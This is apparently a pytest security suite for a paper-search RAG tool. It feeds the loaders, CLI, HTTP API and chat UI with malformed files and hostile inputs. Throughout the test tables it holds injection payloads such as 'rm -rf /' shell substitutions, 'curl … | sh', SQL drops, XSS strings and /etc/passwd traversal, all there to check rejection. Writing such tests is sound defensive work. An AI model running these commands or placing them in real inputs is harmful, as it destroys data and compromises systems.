"""Hostile input through every way in: the loaders (rag/corpus.py), the `rag` CLI, the HTTP
API and the chat UI. Each kind gets a clear error that names what and where, or is served
with the store left untouched. docs/SECURITY.md lists every case by its test id.

Big inputs (a 50 MB line, a 900 kB question) are generated in tmp_path at test time. The
HTTP cases share one server; `rag` runs as a real subprocess only where a process matters
(bytes in argv that are not UTF-8, a FIFO that must not hang, text that looks like shell).
"""

from __future__ import annotations

import gzip
import json
import os
import subprocess
import sys
import time
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from rag.api.app import create_api
from rag.cli import main
from rag.corpus.records import load_corpus
from rag.errors import CorpusError
from rag.store.chroma import PaperStore
from tests.support.api import serve
from tests.support.settings import make_settings
from ui.app import ChatController, new_state
from ui.layout import mount_ui

Q = "Which paper explains why feedback alignment works through implicit regularization?"
FA = "qklMNNub0H"  # the feedback-alignment paper Q is about
JSON = {"content-type": "application/json"}
SQL = "'; DROP TABLE papers; --"
SHELL = "$(rm -rf /) `reboot`"
RAG = Path(sys.executable).parent / "rag"


def good(pid: str) -> bytes:
    return json.dumps({"id": pid, "title": f"T {pid}", "abstract": f"About {pid}. Two."}).encode()


def store_state(store: PaperStore) -> tuple[int, int, str]:
    papers, chunks = store.counts()
    return papers, chunks, store.fingerprint()


# --- loaders: one bad record is reported by file and line, its neighbours still load -----
def _record(**fields: Any) -> bytes:
    return json.dumps({"id": "x", "abstract": "A.", **fields}).encode()


# fmt: off
RECORD_CASES = [  # (id, the bad line, what the issue says)
    ("truncated-jsonl-line", b'{"id": "x", "abstract": "cut off in the mid', "Unterminated string"),
    ("duplicate-keys", b'{"id": "x", "abstract": "one", "abstract": "two"}', "key 'abstract' appears twice"),
    ("nan-value", b'{"id": "x", "abstract": "A.", "score": NaN}', "NaN is not a JSON value"),
    ("infinity-value", b'{"id": "x", "abstract": "A.", "s": -Infinity}', "-Infinity is not a JSON"),
    ("deep-nesting", b'{"id": "x", "n": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", "nested too deeply"),
    ("5000-digit-number", b'{"id": ' + b"9" * 5000 + b', "abstract": "A."}', "more than 4,300 digits"),
    ("lone-surrogate", b'{"id": "x", "abstract": "bad \\ud800 text"}', "unpaired surrogate (\\ud800)"),
    ("latin-1-line", b'{"id": "x", "abstract": "caf\xe9"}', "not valid UTF-8 (byte"),
    ("wrong-type-authors", _record(authors={"name": "X"}), "'authors' must be a list of strings"),
    ("wrong-type-abstract", b'{"id": "x", "abstract": ["A."]}', "'abstract' must be a string, not list"),
    ("huge-id", _record(id="i" * 5000), "'id' is 5,000 characters (limit 200)"),
    ("huge-author-list", _record(authors=["Ann"] * 100_000), "'authors' is 300,000 characters"),
    ("huge-extra-field", _record(notes="n" * 5_000_000), "'extra fields' is 5,000,013 characters"),
]
# fmt: on


@pytest.mark.parametrize(("line", "message"), [pytest.param(*c[1:], id=c[0]) for c in RECORD_CASES])
def test_loader_reports_a_bad_record_by_line(tmp_path: Path, line: bytes, message: str) -> None:
    path = tmp_path / "c.jsonl"
    path.write_bytes(b"\n".join([good("a"), line, good("b")]) + b"\n")
    result = load_corpus([path])
    assert [p.id for p in result.papers] == ["a", "b"]
    assert len(result.issues) == 1, result.issues
    assert str(result.issues[0]).startswith(f"{path}:2: ") and message in str(result.issues[0])


def test_loader_duplicate_keys_in_a_json_array_name_the_record_line(tmp_path: Path) -> None:
    path = tmp_path / "c.json"
    path.write_bytes(b"[\n" + good("a") + b',\n{"id": "x",\n "id": "y", "abstract": "A."}\n]')
    result = load_corpus([path])
    assert [p.id for p in result.papers] == ["a"]
    assert [str(i) for i in result.issues] == [
        f"{path}:3: malformed JSON: key 'id' appears twice in one object"
    ]


@pytest.mark.slow
def test_loader_50_mb_line_is_one_bad_record_in_seconds(tmp_path: Path) -> None:
    path = tmp_path / "big.jsonl"
    with path.open("wb") as handle:  # written in pieces: the test never holds 100 MB
        handle.write(good("a") + b'\n{"id": "big", "abstract": "')
        for _ in range(50):
            handle.write(b"word " * 200_000)
        handle.write(b'"}\n' + good("b") + b"\n")
    started = time.monotonic()
    result = load_corpus([path])
    assert time.monotonic() - started < 30
    assert [p.id for p in result.papers] == ["a", "b"]
    assert [str(i) for i in result.issues] == [
        f"{path}:2: 'abstract' is 49,999,999 characters (limit 20,000)"
    ]


# --- loaders: a file that cannot be used fails the load, naming it (and the line) ----------
def _write(name: str, data: bytes) -> Callable[[Path], Path]:
    def make(tmp: Path) -> Path:
        (tmp / name).write_bytes(data)
        return tmp / name

    return make


def _symlink(name: str, target: str | None) -> Callable[[Path], Path]:
    def make(tmp: Path) -> Path:
        (tmp / name).symlink_to(target or tmp / name)  # None: a link to itself
        return tmp / name

    return make


def _special(name: str, create: Callable[[Path], Any]) -> Callable[[Path], Path]:
    def make(tmp: Path) -> Path:
        create(tmp / name)
        return tmp / name

    return make


TRAVERSAL = "../" * 30 + "etc/passwd"  # from any working directory: /etc/passwd
# fmt: off
FILE_CASES = [  # (id, makes the file in tmp_path, what the error says besides its path)
    ("utf-16-with-bom", _write("c.jsonl", good("a").decode().encode("utf-16")), "UTF-16 text"),
    ("utf-16-no-bom", _write("c.csv", "id,abstract\na,x\n".encode("utf-16-le")), "UTF-16 text"),
    ("utf-32", _write("c.json", ("[" + good("a").decode() + "]").encode("utf-32")), "UTF-32 text"),
    ("latin-1-json", _write("c.json", '[{"id": "a", "abstract": "café"}]'.encode("latin-1")), ":1: not valid UTF-8"),
    ("truncated-json-array", _write("c.json", b"[\n" + good("a") + b',\n{"id": "b", "abs'), ":3: malformed JSON"),
    ("csv-quote-never-closed", _write("c.csv", b'id,abstract\na,"never closed\nb,lost\n'), ":2: malformed CSV: a quoted cell"),
    ("csv-text-after-quote", _write("c.csv", b'id,abstract\na,ok\nb,"quoted" tail\n'), ":3: malformed CSV"),
    ("deep-json-file", _write("c.json", b"[" * 100_000 + b"]" * 100_000), "malformed JSON: nested too deeply"),
    ("json-papers-not-a-list", _write("c.json", b'{"papers": {"a": ' + good("a") + b"}}"), ":1: expected a JSON array"),
    ("gzip-named-jsonl", _write("c.jsonl", gzip.compress(good("a") * 50, mtime=0)), "binary file (NUL bytes)"),
    ("binary-without-nul", _write("c.jsonl", bytes(range(128, 256)) * 8 + b"\n\xff\xfe\n\x80\n"), "none of its 3 records is usable"),
    ("symlink-to-passwd-as-jsonl", _symlink("c.jsonl", "/etc/passwd"), "none of its"),
    ("path-traversal", lambda tmp: Path(TRAVERSAL), "no file extension"),
    ("directory", _special("d.jsonl", Path.mkdir), "not a regular file (a directory"),
    ("dev-zero", lambda tmp: Path("/dev/zero"), "not a regular file (a device)"),
    ("fifo", _special("f.jsonl", os.mkfifo), "not a regular file (a named pipe)"),
    ("symlink-loop", _symlink("loop.jsonl", None), "broken symbolic link"),
    ("symlink-dangling", _symlink("gone.jsonl", "/nonexistent/x.jsonl"), "broken symbolic link"),
    ("name-too-long", lambda tmp: tmp / ("a" * 300 + ".jsonl"), "cannot be read: File name too long"),
]
# fmt: on


@pytest.mark.parametrize(("make", "message"), [pytest.param(*c[1:], id=c[0]) for c in FILE_CASES])
def test_loader_refuses_an_unusable_file_by_name(
    tmp_path: Path, make: Callable[[Path], Path], message: str
) -> None:
    path = make(tmp_path)
    started = time.monotonic()
    with pytest.raises(CorpusError) as info:
        load_corpus([path])
    assert time.monotonic() - started < 10  # a pipe or a device is never read
    assert str(path) in str(info.value) and message in str(info.value), str(info.value)


# --- CLI, in process: exit 2 and a message naming the file or the option ------------------
# fmt: off
CLI_CASES = [  # (id, argv with {tmp} for tmp_path, what stderr says)
    ("ingest-path-traversal", ["ingest", TRAVERSAL], "no file extension"),
    ("ingest-dev-zero", ["ingest", "/dev/zero"], "not a regular file (a device)"),
    ("ingest-directory", ["ingest", "{tmp}"], "not a regular file (a directory"),
    ("ingest-utf-16", ["ingest", "{tmp}/utf16.jsonl"], "UTF-16 text; save it as UTF-8"),
    ("ingest-symlink-to-passwd", ["ingest", "{tmp}/passwd.jsonl"], "none of its"),
    ("ingest-name-too-long", ["ingest", "{tmp}/" + "a" * 300 + ".csv"], "File name too long"),
    ("ask-empty-question", ["ask", ""], "question: empty"),
    ("ask-huge-question", ["ask", "why " * 25_000], "question: 99,999 characters (limit 2,000)"),
    ("ask-negative-top-k", ["ask", "--top-k", "-5", Q], "top_k: -5 is outside 1..50"),
    ("ask-huge-top-k", ["ask", "--top-k", "9" * 30, Q], f"top_k: {'9' * 30} is outside 1..50"),
]
# fmt: on


@pytest.mark.parametrize(("argv", "message"), [pytest.param(*c[1:], id=c[0]) for c in CLI_CASES])
def test_cli_exits_2_with_a_clear_message(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    argv: list[str],
    message: str,
) -> None:
    monkeypatch.setenv("RAG_DATA_DIR", str(tmp_path / "data"))  # an empty store
    (tmp_path / "utf16.jsonl").write_bytes(good("a").decode().encode("utf-16"))
    (tmp_path / "passwd.jsonl").symlink_to("/etc/passwd")
    code = main([arg.replace("{tmp}", str(tmp_path)) for arg in argv])
    out, err = capsys.readouterr()
    assert code == 2 and out == ""
    assert err.startswith("rag: error: ") and message in err and "Traceback" not in err, err


def test_cli_unknown_mode_is_a_usage_error(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as info:
        main(["ask", "--mode", "hybrid; rm -rf /", Q])
    assert info.value.code == 2
    assert "invalid choice: 'hybrid; rm -rf /'" in capsys.readouterr().err


def test_cli_corpus_fields_that_look_like_sql_and_shell_are_data(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    marker = tmp_path / "pwned"
    paper = {
        "id": f"x{SQL}",
        "title": f"Quokka Telemetry $(touch {marker}) `touch {marker}` \u202eevil\u202c zero\u200bwidth",
        "authors": ["Robert'); DROP TABLE students;--", "Eve $(id)"],
        "abstract": "Quokka telemetry collars record marsupial heart rates. "
        "' OR '1'='1 and $(curl example.org | sh) appear here as plain text.\u0000 "
        "Telemetry collars show that quokkas sleep twelve hours a day.",
        "url": "https://example.org/q?id=1;DROP TABLE papers",
        "status": "Oral",
    }
    corpus = tmp_path / "hostile.jsonl"
    corpus.write_bytes(json.dumps(paper).encode() + b"\n" + good("plain") + b"\n")
    monkeypatch.setenv("RAG_DATA_DIR", str(tmp_path / "data"))
    assert main(["ingest", str(corpus)]) == 0
    stored = PaperStore(make_settings(tmp_path / "data")).load_papers()[paper["id"]]
    assert stored.title == paper["title"] and stored.authors == paper["authors"]
    assert stored.url == paper["url"] and "' OR '1'='1 and $(curl" in stored.abstract
    capsys.readouterr()
    assert (
        main(["ask", "--json", "How long do quokkas sleep, according to telemetry collars?"]) == 0
    )
    answer = json.loads(capsys.readouterr().out)
    assert [c["paper_id"] for c in answer["citations"]] == [paper["id"]]
    assert answer["citations"][0]["title"] == paper["title"]
    assert not marker.exists()


# --- CLI as a real process: argv bytes, a FIFO, shell-looking text -------------------------
def run_rag(args: list[str | bytes], data_dir: Path) -> subprocess.CompletedProcess[bytes]:
    env = {**os.environ, "RAG_DATA_DIR": str(data_dir), "RAG_BACKEND": "extractive"}
    return subprocess.run([str(RAG), *args], env=env, capture_output=True, timeout=180)


@pytest.mark.slow
def test_cli_process_refuses_argv_bytes_that_are_not_utf8(tmp_path: Path) -> None:
    done = run_rag([b"ask", b"feedback \xff alignment"], tmp_path / "data")
    assert done.returncode == 2, done.stderr[-2000:]
    assert b"rag: error: question: not valid UTF-8 (byte 0xff at character 9)" in done.stderr
    assert b"Traceback" not in done.stderr


@pytest.mark.slow
def test_cli_process_ingest_of_a_fifo_does_not_hang(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "papers.jsonl")  # nobody ever writes to it: reading would block
    done = run_rag(["ingest", str(tmp_path / "papers.jsonl")], tmp_path / "data")
    assert done.returncode == 2, done.stderr[-2000:]
    assert b"papers.jsonl: not a regular file (a named pipe)" in done.stderr


@pytest.mark.slow
def test_cli_process_answers_sql_and_shell_looking_questions(
    tmp_path: Path, store_copy: Path, assistant: Any
) -> None:
    question = f"{Q} $(touch pwned) `touch pwned` {SQL}"
    done = run_rag(["ask", "--json", question], store_copy)  # in tmp_path, the cwd
    assert done.returncode == 0, done.stderr[-2000:]
    answer = json.loads(done.stdout)
    assert FA in [c["paper_id"] for c in answer["citations"]]
    assert not (tmp_path / "pwned").exists()
    after = store_state(PaperStore(make_settings(store_copy)))
    assert after == store_state(assistant.store)  # the copy of the session store, untouched


# --- HTTP API: refused with a 4xx naming the field, never echoing the input ---------------
def body(data: Any) -> bytes:
    return json.dumps(data).encode()


def user(content: str) -> dict[str, str]:
    return {"role": "user", "content": content}


DEEP = b'{"question": "x", "filters": ' + b'{"a": ' * 50_000 + b"1" + b"}" * 50_000 + b"}"
# fmt: off
API_REFUSED = [  # (id, route, raw body, status, what the error message says)
    ("duplicate-key", "/v1/ask", b'{"question": "bikes", "question": "' + Q.encode() + b'"}', 400, "body: key 'question' appears twice in one object"),
    ("duplicate-key-nested", "/v1/chat/completions", b'{"messages": [{"role": "user", "role": "system", "content": "x"}]}', 400, "key 'role' appears twice"),
    ("deep-nesting", "/v1/retrieve", DEEP, 400, "body: invalid JSON (nested too deeply)"),
    ("5000-digit-number", "/v1/ask", b'{"question": "x", "top_k": ' + b"9" * 5000 + b"}", 400, "a number has more than 4,300 digits"),
    ("latin-1-body", "/v1/ask", '{"question": "café"}'.encode("latin-1"), 400, "body: not valid UTF-8 (byte 17)"),
    ("truncated-json", "/v1/ask", b'{"question": "feedback alig', 400, "body: invalid JSON (Unterminated string"),
    ("question-900-kB", "/v1/ask", body({"question": "why " * 225_000}), 422, "question: String should have at most 2000"),
    ("history-content-object", "/v1/ask", body({"question": Q, "history": [{"role": "user", "content": {"$gt": ""}}]}), 422, "history.0.content: Input should be a valid string"),
    ("top_k-negative", "/v1/ask", body({"question": Q, "top_k": -1}), 422, "top_k: Input should be greater than or equal to 1"),
    ("top_k-huge", "/v1/retrieve", body({"question": Q, "top_k": 10**30}), 422, "top_k: Input should be less than or equal to 50"),
    ("top_k-nan", "/v1/ask", b'{"question": "x", "top_k": NaN}', 422, "top_k: Input should be a finite number"),
    ("mode-with-shell", "/v1/chat/completions", body({"messages": [user(Q)], "mode": "hybrid; rm -rf /"}), 422, "mode: Input should be 'dense', 'bm25' or 'hybrid'"),
    ("filters-as-list", "/v1/ask", body({"question": Q, "filters": ["Oral"]}), 422, "filters: Input should be a valid dictionary"),
    ("filters-operator-object", "/v1/retrieve", body({"question": Q, "filters": {"status": {"$ne": "Poster"}}}), 422, "filters.status: Input should be a valid list"),
    ("filters-paper_ids-string", "/v1/ask", body({"question": Q, "filters": {"paper_ids": FA}}), 422, "filters.paper_ids: Input should be a valid list"),
    ("nul-in-a-key", "/v1/ask", body({"question\u0000": Q}), 422, "question: Field required"),
]
# fmt: on


@pytest.mark.parametrize(
    ("path", "raw", "status", "message"), [pytest.param(*c[1:], id=c[0]) for c in API_REFUSED]
)
def test_api_refuses_with_a_clear_error(
    base_url: str, assistant: Any, path: str, raw: bytes, status: int, message: str
) -> None:
    before = store_state(assistant.store)
    response = httpx.post(f"{base_url}{path}", content=raw, headers=JSON, timeout=60)
    assert response.status_code == status, response.text[:500]
    assert message in response.json()["error"]["message"], response.text[:500]
    assert "Traceback" not in response.text and len(response.text) < 2000  # input not echoed
    assert store_state(assistant.store) == before


# --- HTTP API: served, and the store is untouched ------------------------------------------
ZERO_WIDTH_Q = Q.replace("feedback", "feed\u200bback").replace("alignment", "align\u200dment\ufeff")
CITES, ABSTAINS, EITHER = "cites FA", "abstains", "either"
# fmt: off
API_SERVED = [  # (id, route, JSON body, expected outcome)
    ("emoji", "/v1/ask", {"question": f"🤖 {Q} 🧠🔥"}, CITES),
    ("rtl-override", "/v1/ask", {"question": f"\u202e{Q}\u202c"}, CITES),
    ("zero-width", "/v1/ask", {"question": ZERO_WIDTH_Q}, CITES),
    ("control-and-nul", "/v1/ask", {"question": Q.replace(" ", " \x00\x07\x1b ", 3)}, CITES),
    ("sql-in-question", "/v1/ask", {"question": f"{Q} {SQL}"}, CITES),
    ("shell-in-question", "/v1/chat/completions", {"messages": [user(f"{Q} {SHELL}")]}, CITES),
    ("sql-in-filters", "/v1/ask", {"question": Q, "filters": {"author": SQL, "title": "' OR '1'='1"}}, ABSTAINS),
    ("shell-in-filters", "/v1/ask", {"question": Q, "filters": {"title": SHELL}}, ABSTAINS),
    ("sql-in-paper_ids", "/v1/ask", {"question": Q, "filters": {"paper_ids": [f"{FA}' OR 1=1 --"]}}, ABSTAINS),
    ("fullwidth-lookalike", "/v1/ask", {"question": "Why does ｆｅｅｄｂａｃｋ ａｌｉｇｎｍｅｎｔ work?"}, EITHER),
    ("cyrillic-homoglyphs", "/v1/ask", {"question": Q.replace("a", "\u0430")}, EITHER),
    ("combining-marks", "/v1/ask", {"question": Q.replace("e", "e\u0301")}, EITHER),
    ("history-800-kB", "/v1/ask", {"question": Q, "history": [user("y " * 20_000)] * 20}, CITES),
    ("model-name-500-kB", "/v1/chat/completions", {"model": "m" * 500_000, "messages": [user(Q)]}, CITES),
]
# fmt: on


@pytest.mark.parametrize(
    ("path", "payload", "expected"), [pytest.param(*c[1:], id=c[0]) for c in API_SERVED]
)
def test_api_serves_odd_but_valid_input(
    base_url: str, assistant: Any, path: str, payload: dict[str, Any], expected: str
) -> None:
    before = store_state(assistant.store)
    response = httpx.post(f"{base_url}{path}", json=payload, timeout=60)
    assert response.status_code == 200, response.text[:500]
    data = response.json()
    answer = data["choices"][0]["message"] if "choices" in data else data
    cited = [c["paper_id"] for c in answer["citations"]]
    if expected == CITES:
        assert FA in cited, answer
    elif expected == ABSTAINS:  # no paper has that author or title: nothing to cite
        assert answer["abstained"] is True and cited == []
    assert store_state(assistant.store) == before


# --- the UI's chat function, called directly -------------------------------------------------
@pytest.fixture
def controller(assistant: Any, tmp_path: Path) -> ChatController:
    settings = make_settings(tmp_path / "data", backend="extractive")  # feedback goes here
    return ChatController(assistant, settings, stream_interval=0.0)


# fmt: off
UI_CASES = [  # (id, question, respond() options, what the chat shows)
    ("top_k-nan", Q, {"top_k": float("nan")}, "top_k: must be a whole number from 1 to 50, not nan"),
    ("top_k-fraction", Q, {"top_k": 2.5}, "top_k: must be a whole number from 1 to 50, not 2.5"),
    ("top_k-negative", Q, {"top_k": -3}, "top_k: -3 is outside 1..50"),
    ("mode-unknown", Q, {"mode": "semantic; rm -rf /"}, "mode: &#x27;semantic; rm -rf /&#x27; is not"),
    ("question-1-MB", "why " * 250_000, {}, "question: 999,999 characters (limit 2,000)"),
    ("lone-surrogate", "feedback \ud800 alignment", {}, "question: holds an unpaired surrogate"),
    ("emoji", f"🤖 {Q} 🧠", {}, f"forum?id={FA}"),
    ("rtl-and-zero-width", f"\u202e{ZERO_WIDTH_Q}", {}, f"forum?id={FA}"),
    ("control-and-nul", Q.replace(" ", " \x00\x1b ", 2), {}, f"forum?id={FA}"),
    ("sql-and-shell-in-question", f"{Q} {SQL} {SHELL}", {}, f"forum?id={FA}"),
    ("sql-and-shell-in-filters", Q, {"author": SQL, "title": SHELL}, "rag-abstained"),
    ("html-in-question", f"<script>alert(1)</script> {Q}", {}, "&lt;script&gt;alert(1)&lt;/script&gt;"),
]
# fmt: on


@pytest.mark.parametrize(
    ("question", "options", "needle"), [pytest.param(*c[1:], id=c[0]) for c in UI_CASES]
)
def test_ui_chat_answers_or_says_what_is_wrong(
    controller: ChatController,
    assistant: Any,
    question: str,
    options: dict[str, Any],
    needle: str,
) -> None:
    before = store_state(assistant.store)
    outputs = list(controller.respond(question, [], new_state(), **options))
    chat = outputs[-1][0]
    shown = "".join(str(message["content"]) for message in chat)
    assert needle in shown, shown[-800:]
    refused = needle.startswith(("top_k", "mode", "question"))
    assert ('class="rag-error"' in shown) is refused
    if refused:
        assert "That question could not be taken:" in shown
    assert "Traceback" not in shown and "<script>" not in shown
    assert store_state(assistant.store) == before


# --- the UI through Gradio's own HTTP queue, as a hand-made request would reach it ----------
@pytest.fixture(scope="module")
def ui_url(assistant: Any) -> Iterator[str]:
    app = mount_ui(create_api(assistant, assistant.settings), assistant, assistant.settings)
    with serve(app, lifespan="on") as url:
        yield url


def _fn(config: dict[str, Any], name: str) -> int:
    return int(next(d["id"] for d in config["dependencies"] if d.get("api_name") == name))


def _queued(url: str, fn: int, data: bytes, session: bytes) -> dict[str, Any]:
    """Gradio's `process_completed` message for one queued event of the session."""
    request = b'{"data": %b, "fn_index": %d, "session_hash": "%b", "event_data": null}'
    joined = httpx.post(
        f"{url}/gradio_api/queue/join", content=request % (data, fn, session), headers=JSON
    )
    assert joined.status_code == 200, joined.text
    stream_url = f"{url}/gradio_api/queue/data?session_hash={session.decode()}"
    notices: list[str] = []  # gr.Warning / gr.Info messages, as the page shows them
    with httpx.stream("GET", stream_url, timeout=60) as events:
        for line in events.iter_lines():
            message = json.loads(line[6:]) if line.startswith("data: ") else {}
            if message.get("msg") == "log":
                notices.append(str(message.get("log")))
            if message.get("msg") == "process_completed":
                return {**message, "notices": notices}
    raise AssertionError("the queue never completed the event")


def gradio_send(url: str, question: bytes, options: bytes) -> dict[str, Any]:
    """Send a question (raw JSON, so NaN and surrogate escapes get through) exactly as the
    browser does: `ask` with the question and the options, in a new session. Returns its
    completion: outputs (chat, state, question box, Stop)."""
    config = httpx.get(f"{url}/config").json()
    session = uuid.uuid4().hex[:12].encode()
    data = b"[%b, [], null, %b]" % (question, options)
    return _queued(url, _fn(config, "ask"), data, session)


def respond_options(top_k: str = "5", mode: str = "hybrid", status: str = "[]") -> bytes:
    # mode, top_k, statuses, author, title: the order of build_ui after (sent, chat, state).
    return f'"{mode}", {top_k}, {status}, "", ""'.encode()


QUESTION = json.dumps(Q).encode()
# fmt: off
GRADIO_CASES = [  # (id, raw question, raw options, where it is refused, what is said)
    ("top_k-nan", QUESTION, respond_options(top_k="NaN"), "chat", "top_k: must be a whole number"),
    ("top_k-fraction", QUESTION, respond_options(top_k="2.5"), "chat", "not 2.5"),
    ("lone-surrogate", b'"feedback \\ud800 alignment"', respond_options(), "accept", "unpaired surrogate"),
    ("too-long", json.dumps("why " * 600).encode(), respond_options(), "accept", "(limit 2,000)"),
    ("top_k-below-minimum", QUESTION, respond_options(top_k="-5"), "gradio", "less than minimum value 1"),
    ("mode-not-a-choice", QUESTION, respond_options(mode="semantic"), "gradio", "not in the list of choices"),
    ("status-sql", QUESTION, respond_options(status=json.dumps([SQL])), "gradio", "not in the list of choices"),
]
# fmt: on


@pytest.mark.parametrize(
    ("question", "options", "where", "needle"),
    [pytest.param(*c[1:], id=c[0]) for c in GRADIO_CASES],
)
def test_ui_over_gradio_http_refuses_clearly(
    ui_url: str, assistant: Any, question: bytes, options: bytes, where: str, needle: str
) -> None:
    before = store_state(assistant.store)
    completed = gradio_send(ui_url, question, options)
    if where == "accept":  # refused before any answer: the question goes back to the box
        assert completed["success"] is True and completed["output"]["data"][0] == []
        assert completed["output"]["data"][2].startswith(("feedback ? alignment", "why why"))
        assert any(needle in notice for notice in completed["notices"]), completed["notices"]
    elif where == "chat":  # our checks answer in the chat, as a readable message
        assert completed["success"] is True
        chat = completed["output"]["data"][0]
        question_html, reply_html = (m["content"][0]["text"] for m in chat[-2:])
        assert "feedback alignment" in question_html
        assert 'class="rag-error"' in reply_html and needle in reply_html, reply_html
    else:  # Gradio's own widget checks refuse before our code runs
        assert completed["success"] is False
        assert needle in completed["output"]["error"]
    assert store_state(assistant.store) == before


# --- markup and keys: what comes back, and what the server writes to its log ---------------
XSS = "<script>alert(1)</script><img src=x onerror=alert(1)>"


def test_api_returns_markup_as_json_strings_never_as_html(base_url: str) -> None:
    asked = httpx.post(f"{base_url}/v1/ask", json={"question": f"{XSS} {Q}"}, timeout=60)
    missing = httpx.get(f"{base_url}/v1/models/{XSS}")
    refused = httpx.post(f"{base_url}/v1/ask", json={"question": Q, "mode": XSS})
    assert [asked.status_code, missing.status_code, refused.status_code] == [200, 404, 422]
    for response in (asked, missing, refused):
        assert response.headers["content-type"] == "application/json"
        response.json()  # the whole body is one JSON document
    assert asked.json()["question"] == f"{XSS} {Q}"  # data, returned as it was sent
    assert XSS not in refused.text  # a refused value is never echoed


@pytest.mark.slow
def test_api_key_never_reaches_the_server_log(
    store_copy: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`rag serve --verbose` (everything at DEBUG) with the key set and the UI protected:
    wrong keys, the right key and UI logins leave no trace of the key in its output."""
    from eval.bench.procs import free_port, running_server

    key = "k3y-" + uuid.uuid4().hex
    port = free_port()
    settings = {"DATA_DIR": str(store_copy), "BACKEND": "extractive", "API_KEY": key}
    settings |= {"PROTECT_UI": "true", "WARM_EVIDENCE": "false"}
    for name, value in settings.items():  # the server process inherits the environment
        monkeypatch.setenv(f"RAG_{name}", value)
    command = [sys.executable, "-m", "ui", "--verbose", "--port", str(port)]
    url = f"http://127.0.0.1:{port}"
    log = tmp_path / "serve.log"
    with running_server(command, f"{url}/healthz", log, timeout_s=120) as proc:
        assert proc.poll() is None
        for bearer in (key[:-1] + "X", key.upper(), f"{key} {key}"):
            auth = {"Authorization": f"Bearer {bearer}"}
            refused = httpx.post(f"{url}/v1/ask", json={"question": Q}, headers=auth)
            assert refused.status_code == 401 and key not in refused.text
        served = httpx.post(
            f"{url}/v1/ask", json={"question": Q}, headers={"Authorization": f"Bearer {key}"}
        )
        assert served.status_code == 200, served.text[:300]
        for password, status in ((key[:-1], 400), (key, 200)):
            login = httpx.post(f"{url}/login", data={"username": "me", "password": password})
            assert login.status_code == status and key not in login.text
    output = log.read_text(errors="replace")
    assert "DEBUG" in output and "/v1/ask" in output  # it did log, verbosely
    assert key[4:-1] not in output and key.upper() not in output
